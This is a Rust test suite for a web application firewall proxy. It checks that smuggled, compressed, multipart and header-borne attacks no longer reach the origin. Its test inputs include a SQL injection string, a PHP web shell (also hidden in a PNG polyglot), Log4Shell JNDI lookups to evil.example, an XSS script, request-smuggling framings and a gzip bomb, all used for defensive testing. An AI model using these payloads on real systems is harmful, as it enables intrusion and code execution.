//! Request shapes that once reached the origin uninspected (issue 18), each sent through the
//! running proxy the way an attacker would (raw sockets for HTTP/1 framing, an h2 client for
//! HTTP/2) to an origin that records every byte it receives. Each test asserts what the origin
//! actually got.

mod common;

use std::io::Write as _;
use std::time::Duration;

use base64::Engine as _;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use common::{raw_origin, rules_dir, Proxy, TempDir, WireLog};

const FORM: &str = "application/x-www-form-urlencoded";
/// An attack every inspected location blocks.
const SQLI: &str = "1' union select password from users--";

/// Sends `req` on a new connection and reads the response (head and a `Content-Length` body)
/// or what came before the proxy closed; `None` when nothing came within 10 s.
async fn exchange(port: u16, req: &[u8]) -> String {
    let mut s = TcpStream::connect(("127.0.0.1", port))
        .await
        .expect("connect");
    s.write_all(req).await.expect("write");
    read_response(&mut s).await
}

/// Reads one response from `s`: its head and `Content-Length` body, or up to the close.
async fn read_response(s: &mut TcpStream) -> String {
    let mut got = Vec::new();
    let mut buf = [0u8; 8192];
    loop {
        if let Some(end) = got.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&got[..end]).to_ascii_lowercase();
            let len = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse::<usize>().ok())
                .unwrap_or(0);
            if got.len() >= end + 4 + len {
                break;
            }
        }
        match tokio::time::timeout(Duration::from_secs(10), s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => break,
            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
            Err(_) => panic!(
                "no complete response in 10 s: {:?}",
                String::from_utf8_lossy(&got)
            ),
        }
    }
    String::from_utf8_lossy(&got).into_owned()
}

fn status(resp: &str) -> &str {
    resp.split(' ').nth(1).unwrap_or("")
}

/// A proxy in front of a recording origin, with the shipped rules plus `files`.
async fn setup(tag: &str, files: &[(&str, &str)]) -> (Proxy, WireLog, TempDir) {
    let (o, wire) = raw_origin().await;
    let dir = TempDir::new(tag);
    let rules = rules_dir(&dir, files);
    let up = format!("http://{o}");
    let rules = rules.to_string_lossy().into_owned();
    let p = Proxy::start(&dir, &["--upstream", &up, "--rules-dir", &rules], false);
    (p, wire, dir)
}

fn post(path: &str, headers: &str, body: &[u8]) -> Vec<u8> {
    let mut r = format!(
        "POST {path} HTTP/1.1\r\nHost: localhost\r\n{headers}Content-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    r.extend_from_slice(body);
    r
}

/// Row 1: an HTTP/2 request body without `content-length` (legal in HTTP/2) is inspected.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn h2_body_without_content_length_is_inspected() {
    let (p, wire, _dir) = setup("h2-nolen", &[]).await;
    let tcp = TcpStream::connect(("127.0.0.1", p.port))
        .await
        .expect("connect");
    let (client, conn) = h2::client::handshake(tcp).await.expect("h2 handshake");
    tokio::spawn(async move {
        let _ = conn.await;
    });
    let mut client = client.ready().await.expect("ready");
    for (path, body, want) in [
        (
            "/h2-clean",
            "name=alice&comment=hello+world".to_string(),
            200,
        ),
        ("/h2-attack", format!("q={SQLI}"), 403),
    ] {
        let req = http::Request::builder()
            .method("POST")
            .uri(format!("http://localhost{path}"))
            .header("content-type", FORM)
            .body(())
            .expect("request");
        let (resp, mut stream) = client.send_request(req, false).expect("send");
        // Two DATA frames, the last one ending the stream: no length announced anywhere.
        let (a, b) = body.split_at(body.len() / 2);
        stream
            .send_data(bytes::Bytes::copy_from_slice(a.as_bytes()), false)
            .expect("data");
        stream
            .send_data(bytes::Bytes::copy_from_slice(b.as_bytes()), true)
            .expect("data");
        let resp = tokio::time::timeout(Duration::from_secs(10), resp)
            .await
            .expect("answer in time")
            .expect("response");
        assert_eq!(resp.status().as_u16(), want, "{path}");
        client = client.ready().await.expect("ready");
    }
    let w = wire.lock().expect("wire");
    assert!(!w.saw(b"union select"), "the attack reached the origin");
    let clean = w.for_path("/h2-clean");
    assert_eq!(clean.len(), 1, "{:?}", w.requests);
    assert_eq!(clean[0].body, b"name=alice&comment=hello+world");
}

/// Row 2: `Content-Length: 22,22` (a list Pingora accepts) is refused with 400, never forwarded;
/// so are other lengths that are not one plain number.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn content_length_lists_are_refused() {
    let (p, wire, _dir) = setup("cl-list", &[]).await;
    let smuggled = "GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n";
    let body = format!("q={SQLI}");
    for (i, cl) in [
        format!("{0},{0}", body.len()),
        format!("{0}, {0}", body.len()),
        format!("{}\r\nContent-Length: {}", body.len(), body.len()),
        format!("+{}", body.len()),
    ]
    .iter()
    .enumerate()
    {
        let req = format!(
            "POST /cl-{i} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {FORM}\r\nContent-Length: {cl}\r\n\r\n{body}"
        );
        let resp = exchange(p.port, req.as_bytes()).await;
        assert_eq!(status(&resp), "400", "{cl:?}: {resp}");
    }
    // A smuggled request in a comma-list body never reaches the origin either.
    let req = format!(
        "POST /cl-smuggle HTTP/1.1\r\nHost: localhost\r\nContent-Length: {0},{0}\r\n\r\n{smuggled}",
        smuggled.len()
    );
    let resp = exchange(p.port, req.as_bytes()).await;
    assert_eq!(status(&resp), "400", "{resp}");
    let w = wire.lock().expect("wire");
    assert!(w.requests.is_empty(), "forwarded: {:?}", w.requests);
}

/// Row 3: an attack in the middle of a value longer than `max_value_len` (64 KiB) is found, at
/// every offset; the same value without it passes whole.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_attack_in_the_middle_of_a_long_value_is_found() {
    let (p, wire, _dir) = setup("long-value", &[]).await;
    for at in [60_000usize, 70_000, 80_000, 100_000] {
        let mut v = "a".repeat(120_000);
        v.insert_str(at, &format!(" {SQLI} "));
        let body = format!("comment={v}");
        let resp = exchange(
            p.port,
            &post(
                &format!("/long-{at}"),
                &format!("Content-Type: {FORM}\r\n"),
                body.as_bytes(),
            ),
        )
        .await;
        assert_eq!(status(&resp), "403", "attack at {at}");
    }
    let body = format!("comment={}", "a hundred kilobytes of prose ".repeat(4000));
    let resp = exchange(
        p.port,
        &post(
            "/long-clean",
            &format!("Content-Type: {FORM}\r\n"),
            body.as_bytes(),
        ),
    )
    .await;
    assert_eq!(status(&resp), "200", "{resp}");
    let w = wire.lock().expect("wire");
    assert!(!w.saw(b"union select"), "the attack reached the origin");
    assert_eq!(w.for_path("/long-clean")[0].body.len(), body.len());
}

fn multipart(boundary: &str, parts: &[&str]) -> Vec<u8> {
    let mut b = String::new();
    for p in parts {
        b.push_str(&format!("--{boundary}\r\n{p}\r\n"));
    }
    b.push_str(&format!("--{boundary}--\r\n"));
    b.into_bytes()
}

/// One file part (`image/png`) holding `content`, and the close delimiter.
fn file_part(boundary: &str, content: &[u8]) -> Vec<u8> {
    let mut b = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"p.png\"\r\nContent-Type: image/png\r\n\r\n").into_bytes();
    b.extend_from_slice(content);
    b.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    b
}

/// `n` bytes of a xorshift sequence: the look of compressed image data.
fn random_bytes(n: usize) -> Vec<u8> {
    let mut x: u32 = 0x9e37_79b9;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            (x >> 24) as u8
        })
        .collect()
}

/// Row 4: multipart bodies are read the way frameworks read them; parts whose meaning differs
/// between parsers are refused (400); file contents are inspected whatever their type.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn multipart_is_read_as_frameworks_read_it() {
    let (p, wire, _dir) = setup("multipart", &[]).await;
    let bd = "XyZ123";
    let ct = format!("Content-Type: multipart/form-data; boundary={bd}\r\n");
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        // `filename` inside another parameter's quoted value: a plain field for every framework.
        (
            "/mp-quoted",
            multipart(
                bd,
                &[&format!(
                    "Content-Disposition: form-data; name=\"q\"; x=\"; filename=a.png\"\r\nContent-Type: image/png\r\n\r\n{SQLI}"
                )],
            ),
            "403",
        ),
        // An empty filename: Tornado and PHP take the part for a field.
        (
            "/mp-empty-filename",
            multipart(
                bd,
                &[&format!(
                    "Content-Disposition: form-data; name=\"q\"; filename=\"\"\r\nContent-Type: application/octet-stream\r\n\r\n{SQLI}"
                )],
            ),
            "403",
        ),
        // Two Content-Disposition headers: which one wins depends on the parser.
        (
            "/mp-two-cd",
            multipart(
                bd,
                &[&format!(
                    "Content-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Type: image/png\r\n\r\n{SQLI}"
                )],
            ),
            "400",
        ),
        // A delimiter in the middle of a line: Tornado splits there, Werkzeug and PHP do not.
        (
            "/mp-midline",
            format!(
                "--{bd}\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nx--{bd}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n{SQLI}\r\n--{bd}--\r\n"
            )
            .into_bytes(),
            "400",
        ),
        // A PHP shell declared as an image: as text, and inside real binary (a polyglot).
        (
            "/mp-php-text-png",
            multipart(
                bd,
                &["Content-Disposition: form-data; name=\"avatar\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>"],
            ),
            "403",
        ),
        (
            "/mp-php-png",
            file_part(bd, b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\xff<?php system($_GET['c']); ?>\xfe\0\0"),
            "403",
        ),
        // Clean: a field, and 100 KB of binary (a photo's bytes look random).
        (
            "/mp-clean",
            {
                let mut b = multipart(
                    bd,
                    &["Content-Disposition: form-data; name=\"title\"\r\n\r\nholiday photos"],
                );
                b.truncate(b.len() - format!("--{bd}--\r\n").len());
                b.extend_from_slice(&file_part(bd, &random_bytes(100_000)));
                b
            },
            "200",
        ),
    ];
    for (path, body, want) in &cases {
        let resp = exchange(p.port, &post(path, &ct, body)).await;
        assert_eq!(status(&resp), *want, "{path}: {resp}");
    }
    let w = wire.lock().expect("wire");
    for (path, _, want) in &cases {
        let n = w.for_path(path).len();
        assert_eq!(n, usize::from(*want == "200"), "{path} reached the origin");
    }
}

/// Row 5: a form body with an invalid UTF-8 byte is still parsed as a form (`+` as space).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_form_that_is_not_utf8_is_still_a_form() {
    let (p, wire, _dir) = setup("non-utf8", &[]).await;
    // Scanned raw, `admin'+--+` passed: read as a form, it is `admin' -- `.
    let body = b"name=caf\xe9&user=admin'+--+".to_vec();
    let resp = exchange(
        p.port,
        &post("/latin1", &format!("Content-Type: {FORM}\r\n"), &body),
    )
    .await;
    assert_eq!(status(&resp), "403", "{resp}");
    let clean = b"name=caf\xe9&comment=hello+world".to_vec();
    let resp = exchange(
        p.port,
        &post(
            "/latin1-clean",
            &format!("Content-Type: {FORM}\r\n"),
            &clean,
        ),
    )
    .await;
    assert_eq!(status(&resp), "200", "{resp}");
    let w = wire.lock().expect("wire");
    assert!(w.for_path("/latin1").is_empty());
    assert_eq!(w.for_path("/latin1-clean")[0].body, clean);
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).expect("gzip");
    e.finish().expect("gzip")
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).expect("deflate");
    e.finish().expect("deflate")
}

/// Row 6: compressed request bodies are decompressed (bounded) and inspected; encodings the
/// WAF cannot read are refused with 415, and so is every compressed body on a site that says
/// `request_body_encoding: refuse`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn compressed_bodies_are_inspected_or_refused() {
    let sites = "sites:\n  - { id: 7, name: strict, domain: strict.test, target_url: \"http://127.0.0.1:9\", request_body_encoding: refuse }\n";
    let (p, wire, _dir) = setup("encoded", &[("zz-sites.yaml", sites)]).await;
    let attack = format!("q={SQLI}");
    let clean = b"name=alice&comment=hello+world";
    let h = |enc: &str| format!("Content-Type: {FORM}\r\nContent-Encoding: {enc}\r\n");
    let cases: Vec<(&str, String, Vec<u8>, &str)> = vec![
        ("/gz-attack", h("gzip"), gzip(attack.as_bytes()), "403"),
        (
            "/deflate-attack",
            h("deflate"),
            zlib(attack.as_bytes()),
            "403",
        ),
        // Raw deflate (no zlib header), as some clients send it.
        (
            "/gz-twice",
            h("gzip, gzip"),
            gzip(&gzip(attack.as_bytes())),
            "403",
        ),
        ("/gz-clean", h("gzip"), gzip(clean), "200"),
        ("/deflate-clean", h("deflate"), zlib(clean), "200"),
        ("/br", h("br"), b"\x0b\x02\x80hello\x03".to_vec(), "415"),
        (
            "/gz-broken",
            h("gzip"),
            b"\x1f\x8b\x08\0garbage".to_vec(),
            "400",
        ),
    ];
    for (path, headers, body, want) in &cases {
        let resp = exchange(p.port, &post(path, headers, body)).await;
        assert_eq!(status(&resp), *want, "{path}: {resp}");
    }
    // A bomb: 64 MiB of zeros in about 64 KiB. Decoded up to the inspection limit only, then
    // passed as an oversize body (the shipped `oversize_body: pass`), forwarded as it came.
    let bomb = gzip(&vec![0u8; 64 << 20]);
    let resp = exchange(p.port, &post("/gz-bomb", &h("gzip"), &bomb)).await;
    assert_eq!(status(&resp), "200", "{resp}");
    // The site that refuses compressed bodies.
    let req = format!(
        "POST /strict HTTP/1.1\r\nHost: strict.test\r\nContent-Type: {FORM}\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
        gzip(clean).len()
    );
    let mut req = req.into_bytes();
    req.extend_from_slice(&gzip(clean));
    let resp = exchange(p.port, &req).await;
    assert_eq!(status(&resp), "415", "{resp}");

    let w = wire.lock().expect("wire");
    for (path, _, body, want) in &cases {
        let got = w.for_path(path);
        if *want == "200" {
            assert_eq!(got.len(), 1, "{path}");
            assert_eq!(&got[0].body, body, "{path}: forwarded as it came");
        } else {
            assert!(got.is_empty(), "{path} reached the origin");
        }
    }
    assert_eq!(w.for_path("/gz-bomb")[0].body, bomb);
}

/// Row 7: every header is inspected but those proven safe by their shape; Basic credentials
/// are decoded; cookie names are inspected too. A browser's ordinary headers pass.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_header_is_inspected() {
    let (p, wire, _dir) = setup("headers", &[]).await;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("admin:{SQLI}"));
    let cases = [
        ("Accept-Language", format!("en-US,{SQLI}")),
        ("Accept", format!("text/html, {SQLI}")),
        ("Authorization", format!("Basic {basic}")),
        ("Authorization", format!("Bearer {SQLI}")),
        ("Cache-Control", format!("no-cache, {SQLI}")),
        ("If-None-Match", format!("\"{SQLI}\"")),
        ("X-Request-Id", SQLI.to_string()),
        (
            "Sec-Fetch-Site",
            "<script>alert(document.cookie)</script>".to_string(),
        ),
        (
            "Content-Type",
            "text/plain; ${jndi:ldap://evil.example/a}".to_string(),
        ),
        (
            "Accept-Encoding",
            "${jndi:ldap://evil.example/a}".to_string(),
        ),
        ("Cookie", format!("sid=1; {SQLI}=1")),
    ];
    for (i, (name, value)) in cases.iter().enumerate() {
        let req = format!("GET /h-{i} HTTP/1.1\r\nHost: localhost\r\n{name}: {value}\r\n\r\n");
        let resp = exchange(p.port, req.as_bytes()).await;
        assert_eq!(status(&resp), "403", "{name}: {value}: {resp}");
    }
    let browser = "GET /h-browser HTTP/1.1\r\nHost: localhost\r\n\
        Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\n\
        Accept-Language: en-US,en;q=0.9,de-DE;q=0.8\r\n\
        Accept-Encoding: gzip, deflate, br, zstd\r\n\
        Cache-Control: max-age=0\r\n\
        If-None-Match: W/\"5e-1a2b3c\", \"abc-123\"\r\n\
        If-Modified-Since: Tue, 01 Dec 2026 10:00:00 GMT\r\n\
        Sec-Ch-Ua: \"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\"\r\n\
        Sec-Ch-Ua-Mobile: ?0\r\n\
        Sec-Ch-Ua-Platform: \"Linux\"\r\n\
        Sec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\nSec-Fetch-User: ?1\r\n\
        Upgrade-Insecure-Requests: 1\r\n\
        Authorization: Basic YWxpY2U6czNjcmV0IQ==\r\n\
        X-Request-Id: 7f1c2a9e-3b4d-4e5f-8a6b-1c2d3e4f5a6b\r\n\
        Cookie: _ga=GA1.2.123.456; session-id=abc; theme=dark\r\n\
        Priority: u=0, i\r\n\r\n";
    let resp = exchange(p.port, browser.as_bytes()).await;
    assert_eq!(status(&resp), "200", "{resp}");
    let w = wire.lock().expect("wire");
    assert!(!w.saw(b"union select"), "an attack reached the origin");
    assert_eq!(w.requests.len(), 1, "{:?}", w.requests);
}

/// Row 8: a CC rule counts the canonical path: `/%6cogin`, `//login`, `/./login` are `/login`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cc_rules_count_the_canonical_path() {
    let cc = "cc:\n  - { id: 5, host: \"*\", path: /login, threshold: 2, window: 60, ban_duration: 60, action: block, enabled: true }\n";
    let acl = "acl:\n  - { id: 9, type: global, rule_type: url, pattern: /admin, action: block, enabled: true }\n";
    let (p, wire, _dir) = setup("cc-path", &[("zz-cc.yaml", cc), ("zz-acl.yaml", acl)]).await;
    for path in ["/login", "/login"] {
        let resp = exchange(
            p.port,
            format!("GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n").as_bytes(),
        )
        .await;
        assert_eq!(status(&resp), "200", "{path}: {resp}");
    }
    for path in ["/%6cogin", "//login", "/./login", "/x/../login"] {
        let resp = exchange(
            p.port,
            format!("GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n").as_bytes(),
        )
        .await;
        assert_eq!(status(&resp), "429", "{path}: {resp}");
    }
    for path in ["/%61dmin", "//admin", "/./admin/x"] {
        let resp = exchange(
            p.port,
            format!("GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n").as_bytes(),
        )
        .await;
        assert_eq!(status(&resp), "403", "{path}: {resp}");
    }
    let w = wire.lock().expect("wire");
    assert_eq!(w.requests.len(), 2, "{:?}", w.requests);
}

/// Row 9: an empty chunked body reaches the origin with one terminator, not two.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_empty_chunked_body_is_forwarded_with_one_terminator() {
    let (p, wire, _dir) = setup("chunked", &[]).await;
    for path in ["/empty-chunked", "/empty-chunked-again"] {
        let req = format!(
            "POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {FORM}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        );
        let resp = exchange(p.port, req.as_bytes()).await;
        assert_eq!(status(&resp), "200", "{resp}");
    }
    // And a chunked body with content: the same framing, its content whole.
    let req = format!(
        "POST /chunked HTTP/1.1\r\nHost: localhost\r\nContent-Type: {FORM}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\na=1&b\r\n2\r\n=2\r\n0\r\n\r\n"
    );
    let resp = exchange(p.port, req.as_bytes()).await;
    assert_eq!(status(&resp), "200", "{resp}");
    tokio::time::sleep(Duration::from_millis(200)).await;
    let w = wire.lock().expect("wire");
    let paths: Vec<String> = w
        .requests
        .iter()
        .map(|r| r.head.lines().next().unwrap_or("").to_string())
        .collect();
    assert_eq!(paths.len(), 3, "the origin parsed {paths:?}");
    assert_eq!(w.for_path("/chunked")[0].body, b"a=1&b=2");
    for conn in &w.bytes {
        let terminators = conn.windows(5).filter(|w| w == b"0\r\n\r\n").count();
        let requests = conn.windows(5).filter(|w| w == b"POST ").count();
        assert_eq!(terminators, requests, "{:?}", String::from_utf8_lossy(conn));
    }
}
